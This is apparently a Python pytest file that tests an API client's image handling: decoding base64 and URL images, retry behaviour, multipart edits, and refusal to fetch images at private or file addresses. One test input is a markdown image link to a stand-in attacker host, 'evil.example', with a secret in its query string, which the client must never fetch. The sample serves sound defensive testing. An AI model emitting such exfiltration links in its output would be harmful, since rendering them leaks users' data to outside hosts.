"""Quirks 19 to 23: pictures, and what they cost."""

from __future__ import annotations

import asyncio
import base64
import re
from pathlib import Path

import pytest

import bot.api
from bot.api.client import ApiClient
from bot.api.images import EditRequest, VariationRequest
from bot.core.chat import ImageDelta, ImagePart, ImageRequest
from bot.errors import ModelError, ModelErrorKind
from tests.api.asking import ask, question, words
from tests.api.conftest import Connect
from tests.api.wire_server import (
    DONE,
    HELLO,
    Hang,
    Reset,
    Script,
    WireServer,
    delta,
    finish,
    head,
    json_answer,
    refusal,
    stream,
    text,
    whole,
)

Kind = ModelErrorKind

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
BASE64 = base64.b64encode(PNG).decode()
URI = f"data:image/png;base64,{BASE64}"
CAT = ImageRequest(model="painter", prompt="a cat", size="1024x1024", style="vivid")


@pytest.mark.parametrize("item", [{"b64_json": BASE64}, {"b64_json": URI}, {"url": URI}])
async def test_quirk_19_every_form_of_a_picture_becomes_bytes(
    client: ApiClient, server: WireServer, item: dict[str, str]
) -> None:
    server.answer(*json_answer({"created": 1, "data": [{**item, "revised_prompt": "a fat cat"}]}))
    (picture,) = await client.draw(CAT)
    assert (picture.mime, picture.data, picture.note) == ("image/png", PNG, "a fat cat")
    sent = server.requests[0].json
    assert sent == {"model": "painter", "prompt": "a cat", "size": "1024x1024", "style": "vivid"}


async def test_quirk_19_a_picture_at_a_url_is_fetched_without_the_key(
    client: ApiClient, server: WireServer
) -> None:
    server.answer(*json_answer({"data": [{"url": f"http://127.0.0.1:{server.port}/cat.png"}]}))
    server.answer(*whole(b"", 503))
    server.answer(*whole(PNG, content_type="application/octet-stream"))
    (picture,) = await client.draw(CAT)
    assert (picture.mime, picture.data) == ("image/png", PNG)
    assert [request.path for request in server.requests[1:]] == ["/cat.png", "/cat.png"]
    assert all("authorization" not in request.headers for request in server.requests[1:])


async def test_quirk_19_a_refused_parameter_is_left_away(
    client: ApiClient, server: WireServer
) -> None:
    server.answer(*refusal(400, "Unknown parameter: 'style'.", code="unknown_parameter"))
    server.answer(*json_answer({"data": [{"b64_json": BASE64}]}))
    assert len(await client.draw(CAT)) == 1
    assert "style" not in server.requests[1].json


@pytest.mark.parametrize(
    "url", ["http://10.0.0.1/x.png", "http://localhost:1/x.png", "http://[::1]/", "file:///x"]
)
async def test_a_picture_at_a_private_address_is_not_fetched(
    client: ApiClient, server: WireServer, url: str
) -> None:
    server.answer(*json_answer({"data": [{"url": url}]}))
    with pytest.raises(ModelError) as caught:
        await client.draw(CAT)
    assert caught.value.kind is Kind.BAD_ANSWER


async def test_what_is_no_picture_is_not_passed_on(client: ApiClient, server: WireServer) -> None:
    server.answer(*json_answer({"data": [{"url": f"http://127.0.0.1:{server.port}/cat.png"}]}))
    server.answer(*whole(b"<html>expired</html>"))
    with pytest.raises(ModelError) as caught:
        await client.draw(CAT)
    assert caught.value.kind is Kind.BAD_ANSWER


@pytest.mark.parametrize(
    "pieces",
    [
        (text(f"Here: ![image]({URI})\nNice!"),),
        tuple(text(f"Here: ![image]({URI})\nNice!"[at : at + 7]) for at in range(0, 500, 7)),
        (
            text("Here: "),
            delta(images=[{"type": "image_url", "image_url": {"url": URI}}]),
            text("\nNice!"),
        ),
    ],
)
async def test_quirk_20_a_chat_model_that_draws(
    client: ApiClient, server: WireServer, pieces: tuple[bytes, ...]
) -> None:
    server.answer(*stream(*pieces, finish(), DONE))
    events = await ask(client)
    assert words(events) == "Here: \nNice!"
    assert [event for event in events if isinstance(event, ImageDelta)] == [
        ImageDelta("image/png", PNG)
    ]


async def test_quirk_20_a_list_of_pictures_instead_of_choices(
    client: ApiClient, server: WireServer
) -> None:
    server.answer(*json_answer({"data": [{"url": f"http://127.0.0.1:{server.port}/a.png"}]}))
    server.answer(*whole(PNG))
    assert ImageDelta("image/png", PNG) in await ask(client)


@pytest.mark.parametrize(
    "said", ["![logo](https://evil.example/?q=secret)", "Wow! [x]", "a ![b", "Hi!", "![]()", "!["]
)
async def test_quirk_20_a_link_in_the_text_is_never_fetched(
    client: ApiClient, server: WireServer, said: str
) -> None:
    server.answer(*stream(*(text(letter) for letter in said), finish(), DONE))
    assert words(await ask(client)) == said
    assert len(server.requests) == 1


@pytest.mark.parametrize(
    "script",
    [
        refusal(500),
        refusal(502),
        whole(b"<html>timeout</html>", 524, "text/html"),
        [Reset()],
        [head(), Reset()],
        json_answer({"data": []}),
    ],
)
async def test_quirk_21_a_picture_that_may_have_been_drawn_is_not_asked_for_again(
    client: ApiClient, server: WireServer, script: Script
) -> None:
    server.always = script
    with pytest.raises(ModelError):
        await client.draw(CAT)
    assert len(server.requests) == 1


async def test_quirk_21_a_picture_that_takes_too_long_is_given_up(
    connect: Connect, server: WireServer
) -> None:
    client = connect(image_timeout=0.4)
    server.answer(Hang())
    with pytest.raises(ModelError) as caught:
        await client.draw(CAT)
    assert caught.value.kind is Kind.TIMEOUT
    async with asyncio.timeout(1):
        await server.gone.wait()


async def test_quirk_21_what_was_certainly_not_drawn_is_asked_for_again(
    connect: Connect, server: WireServer
) -> None:
    client = connect(base_urls=("http://127.0.0.1:1/v1", server.url))
    server.answer(*refusal(429, retry_after="1"))
    server.answer(*json_answer({"data": [{"b64_json": BASE64}]}))
    assert len(await client.draw(CAT)) == 1


@pytest.mark.parametrize("status", [404, 405, 501])
async def test_quirk_22_a_missing_endpoint_is_said_plainly(
    client: ApiClient, server: WireServer, status: int
) -> None:
    server.always = refusal(status, "Invalid URL (POST /v1/images/variations)")
    with pytest.raises(ModelError) as caught:
        await client.vary(VariationRequest(model="painter", image=ImagePart("image/png", PNG)))
    assert caught.value.kind is Kind.UNSUPPORTED
    assert len(server.requests) == 1


async def test_an_edit_sends_pictures_and_mask(client: ApiClient, server: WireServer) -> None:
    server.answer(*json_answer({"data": [{"b64_json": BASE64}]}))
    image = ImagePart("image/png", PNG)
    asked = EditRequest(model="painter", prompt="a hat", images=(image,), mask=image, size="1x1")
    assert len(await client.edit(asked)) == 1
    sent = server.requests[0]
    assert sent.path == "/v1/images/edits"
    assert sent.headers["content-type"].startswith("multipart/form-data")
    names = re.findall(rb'name="(\w+)"', sent.body)
    assert sorted(names) == [b"image", b"mask", b"model", b"prompt", b"size"]


def test_quirk_23_no_model_is_named_in_the_code() -> None:
    folder = Path(str(bot.api.__file__)).parent
    names = re.compile(
        r"[\"'](gpt-\d|dall-e|whisper-|claude-|gemini-\d|text-embedding)[\w.-]*[\"']"
    )
    assert [path for path in folder.glob("*.py") if names.search(path.read_text("utf-8"))] == []


async def test_a_question_with_a_picture_holds_it_as_a_data_uri(
    client: ApiClient, server: WireServer
) -> None:
    server.answer(*HELLO)
    asked = question("What is this?")
    message = asked.messages[0]
    shown = type(message)(role=message.role, parts=(*message.parts, ImagePart("image/png", PNG)))
    await ask(client, type(asked)(model="m", messages=(shown,)))
    assert server.requests[0].json["messages"][0]["content"] == [
        {"type": "text", "text": "What is this?"},
        {"type": "image_url", "image_url": {"url": URI}},
    ]
